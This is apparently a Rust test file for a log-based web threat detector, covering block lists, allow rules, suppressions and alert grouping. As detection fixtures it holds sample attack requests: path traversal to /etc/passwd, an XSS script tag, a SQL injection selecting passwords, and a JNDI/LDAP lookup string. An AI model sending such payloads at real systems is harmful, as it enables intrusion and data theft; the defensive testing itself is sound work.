//! Less noise, from the outside: lists that change, what is let pass, scans and floods.

use std::process::Output;

use serde_json::{Value, json};
use vigil_testkit::{Http, Vigil, wait_for, wait_until};

use crate::site::{Site, line, metric, threat_with, threats};

const ATTACK: &str = "/x?file=../../../../etc/passwd";

/// A line of another client than [`line`]'s.
fn from(address: &str, target: &str, agent: &str) -> String {
    line(target)
        .replace("203.0.113.7", address)
        .replace("Mozilla/5.0", agent)
}

fn serve(site: &Site, config: &str) -> Vigil {
    let path = site.path("vigil.toml");
    fs_err::write(&path, config).unwrap();
    site.append("");
    let builder = site.following().arg("--from-start");
    builder.arg("--config").arg(path.to_str().unwrap()).serve()
}

fn alerts(http: &Http) -> Vec<Value> {
    let page = http.get("/api/v1/alerts?limit=1000").json();
    page["items"].as_array().unwrap().clone()
}

fn text(output: &Output) -> String {
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{error}");
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[test]
fn a_list_is_read_again_and_a_broken_one_leaves_the_old() {
    let site = Site::new();
    let list = site.path("drop.csv");
    fs_err::write(&list, "ip,score,why\n192.0.2.1,8,spam\n").unwrap();
    let vigil = serve(
        &site,
        &format!(
            "[[enrich.lists]]\nname = 'drop'\nkind = 'block'\npath = '{}'\ncolumn = 'ip'\nscore_column = 'score'\nlabel_column = 'why'\n",
            list.display()
        ),
    );
    let http = vigil.http();
    site.append(from("192.0.2.1", "/first", "Mozilla/5.0"));
    let first = threat_with(http, "/first");
    assert_eq!(first["detections"][0]["rule_id"], "list-drop");
    assert_eq!(first["detections"][0]["detector"], "list");
    assert!(
        first["detections"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("spam")
    );
    fs_err::write(
        &list,
        "ip,score,why\n192.0.2.2,8,x\n192.0.2.3,8,x\nbad,1,x\n",
    )
    .unwrap();
    wait_until("the changed list is in force", || {
        metric(http, "vigil_list_networks{list=\"drop\"}") == 2
    });
    assert_eq!(metric(http, "vigil_list_bad_lines{list=\"drop\"}"), 1);
    fs_err::write(&list, "<html>\n").unwrap();
    wait_until("the broken list is told on the channel `status`", || {
        status(&vigil)
    });
    site.append(from("192.0.2.1", "/second", "Mozilla/5.0"));
    site.append(from("192.0.2.2", "/third", "Mozilla/5.0"));
    threat_with(http, "/third");
    assert_eq!(threats(http).len(), 2, "the old list is still in force");
}

/// Whether the server says on `status` that an old list stays in force.
fn status(vigil: &Vigil) -> bool {
    use std::io::{BufRead as _, BufReader, Read as _, Write as _};
    let address = vigil.base().trim_start_matches("http://");
    let ticket = vigil.http().post("/api/v1/tickets", &json!({})).json();
    let ticket = ticket["ticket"].as_str().unwrap().to_owned();
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    let request = format!("GET /sse/status?ticket={ticket} HTTP/1.1\r\nHost: {address}\r\n\r\n");
    stream.write_all(request.as_bytes()).unwrap();
    let lines = BufReader::new(stream.take(1 << 20)).lines();
    let update = lines
        .map(Result::unwrap)
        .find(|line| line.contains("uptime_seconds"));
    update.is_some_and(|update| update.contains("stays in force"))
}

#[test]
fn what_is_allowed_is_let_pass_and_counted() {
    let site = Site::new();
    let bots = site.path("bots.json");
    fs_err::write(&bots, r#"{"prefixes":[{"ipv4Prefix":"198.51.100.0/24"}]}"#).unwrap();
    let vigil = serve(
        &site,
        &format!(
            "[detect.allow]\nnetworks = ['192.0.2.0/24']\npaths = ['/static/*']\n[[detect.allow.bots]]\nname = 'good'\nuser_agents = ['Goodbot']\nnetworks = ['{}']\nfalse_score = 6.0\n",
            bots.display()
        ),
    );
    let http = vigil.http();
    for text in [
        from("192.0.2.1", ATTACK, "Mozilla/5.0"),
        from("198.51.100.1", ATTACK, "Goodbot/1"),
        line("/static/x?file=../../../../etc/passwd"),
        line("/static/../../../../etc/passwd"),
        from("203.0.113.99", "/quiet", "Goodbot/1"),
        line("/last?file=../../../../etc/passwd"),
    ] {
        site.append(text);
    }
    threat_with(http, "/last");
    let all = threats(http);
    assert_eq!(all.len(), 3, "{all:?}");
    let said = |part: &str| {
        all.iter()
            .any(|threat| threat["event"]["original"].as_str().unwrap().contains(part))
    };
    assert!(said("/static/../") && said("/quiet"));
    for cause in ["allowed_network", "good_bot", "allowed_path"] {
        let name = format!("vigil_detections_suppressed_total{{cause=\"{cause}\"}}");
        assert!(metric(http, &name) > 0, "{cause}");
    }
    assert_eq!(metric(http, "vigil_threats_suppressed_total"), 3);
    let config = site.path("vigil.toml");
    let line = from("192.0.2.1", ATTACK, "Mozilla/5.0");
    let explained = site.vigil().command("explain");
    let explained = explained_with(explained, config.to_str().unwrap(), line.trim_end());
    assert!(
        explained.contains("Let pass") && explained.contains("allowed network"),
        "{explained}"
    );
}

fn explained_with(mut command: std::process::Command, config: &str, line: &str) -> String {
    text(&command.args(["--config", config, line]).output().unwrap())
}

#[test]
fn a_suppression_holds_at_once_and_is_counted() {
    let site = Site::new();
    let vigil = serve(&site, "");
    let http = vigil.http();
    let asked = |arguments: &[&str]| {
        let mut command = std::process::Command::new(crate::site::BINARY);
        command.arg("suppress").args(arguments);
        command.args(["--data-dir", site.path("data").to_str().unwrap()]);
        command.args(["--url", vigil.base()]);
        command.output().unwrap()
    };
    let suppress = |arguments: &[&str]| text(&asked(arguments));
    for (name, is_told) in [("sql_injectoin", true), ("sql_injection", false)] {
        let made = asked(&["add", name, "--path", "/never", "--reason", "a test"]);
        let told =
            String::from_utf8_lossy(&made.stderr).contains("has the id or family `sql_injectoin`");
        assert!(made.status.success() && told == is_told, "{made:?}");
    }
    let id = suppress(&[
        "add",
        "*",
        "--path",
        "/noisy*",
        "--reason",
        "our editor",
        "--expires",
        "1h",
    ]);
    let id = id.trim();
    let noisy = line("/noisy?file=../../../../etc/passwd");
    site.append(&noisy);
    site.append(line("/first?file=../../../../etc/passwd"));
    threat_with(http, "/first");
    assert_eq!(threats(http).len(), 1);
    let listed = wait_for("the hit is counted", || {
        let listed = suppress(&["list"]);
        let of_id = listed.lines().skip_while(|line| !line.starts_with(id));
        let is_counted = of_id.take(3).any(|line| line.contains(", last "));
        is_counted.then_some(listed)
    });
    assert!(
        listed.contains(id) && listed.contains("our editor") && listed.contains("by cli"),
        "{listed}"
    );
    let explained = explained_with(
        site.vigil().command("explain"),
        "/dev/null",
        noisy.trim_end(),
    );
    assert!(
        explained.contains("Let pass") && explained.contains("our editor"),
        "{explained}"
    );
    assert_eq!(suppress(&["remove", id]).trim(), "removed");
    site.append(&noisy);
    threat_with(http, "/noisy");
    assert!(suppress(&["list", "--all"]).contains("removed by cli"));
}

#[test]
fn one_scan_is_one_alert_and_a_flood_is_gathered() {
    let site = Site::new();
    let vigil = serve(&site, "[detect]\nnew_alerts_per_minute = 3\n");
    let http = vigil.http();
    for target in [
        ATTACK,
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?id=1%20union%20select%201,2,password%20from%20users",
        "/?x=$%7Bjndi:ldap://192.0.2.1/a%7D",
    ] {
        site.append(line(target));
    }
    wait_until("four threats are one alert", || {
        alerts(http).iter().any(|alert| alert["count"] == 4)
    });
    let of_scan = alerts(http);
    assert_eq!(of_scan.len(), 1);
    assert_eq!(of_scan[0]["family"], "scan");
    for number in 1..=6 {
        site.append(from(&format!("192.0.2.{number}"), ATTACK, "Mozilla/5.0"));
    }
    wait_until("the flood is gathered", || threats(http).len() == 10);
    let all = alerts(http);
    let flood: Vec<_> = all
        .iter()
        .filter(|alert| alert["family"] == "alert_flood")
        .collect();
    assert_eq!((all.len(), flood.len()), (4, 1), "{all:?}");
    assert_eq!(flood[0]["count"], 4);
    assert_eq!(metric(http, "vigil_threats_gathered_total"), 4);
}
